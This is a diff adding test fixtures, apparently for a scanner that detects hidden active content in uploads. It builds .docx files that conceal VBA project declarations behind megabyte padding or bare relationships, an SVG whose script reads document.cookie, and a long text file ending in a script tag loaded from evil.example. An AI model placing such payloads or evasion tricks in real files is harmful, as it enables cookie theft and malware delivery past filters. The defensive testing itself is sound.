@@ -58,6 +58,61 @@ def docm() -> bytes:
     return out.getvalue()
 
 
+def _docx_with(parts: dict[str, bytes], change=lambda name, data: data) -> bytes:
+    """docx() with each part passed through `change`, and `parts` added."""
+    source = zipfile.ZipFile(io.BytesIO(docx()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for member in source.infolist():
+            archive.writestr(member, change(member.filename, source.read(member)))
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def hidden_vba_content_type() -> bytes:
+    """A .docx whose [Content_Types].xml declares VBA for a part not called
+    vbaProject.bin, after more than a megabyte of comment."""
+
+    def declare(name, data):
+        if name != "[Content_Types].xml":
+            return data
+        padding = b"<!--" + b"x" * (1024 * 1024 + 10) + b"-->"
+        override = b'<Override PartName="/word/payload.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+        return data.replace(b"</Types>", padding + override + b"</Types>")
+
+    return _docx_with({"word/payload.bin": b"\xd0\xcf\x11\xe0macros"}, declare)
+
+
+def hidden_vba_relationship() -> bytes:
+    """A .docx whose document names a part of its own as its VBA project by
+    a relationship alone."""
+
+    def relate(name, data):
+        if name != "word/_rels/document.xml.rels":
+            return data
+        relationship = (
+            b'<Relationship Id="rIdX" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+            b'Target="notes.bin"/>'
+        )
+        return data.replace(b"</Relationships>", relationship + b"</Relationships>")
+
+    return _docx_with({"word/notes.bin": b"\xd0\xcf\x11\xe0macros"}, relate)
+
+
+def svg_with_script() -> bytes:
+    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>\n'
+
+
+def text_with_script() -> bytes:
+    """Notes whose words are fine until a script far into them."""
+    return b"Minutes of the meeting.\n" * 4000 + b"<SCRIPT src=//evil.example/x.js></SCRIPT>\n"
+
+
+def html_page() -> bytes:
+    return b"<!DOCTYPE html><html><body><p>Minutes</p></body></html>"
+
+
 def program() -> bytes:
     """The start of a Windows program (an .exe): 'MZ', then its header."""
     return (
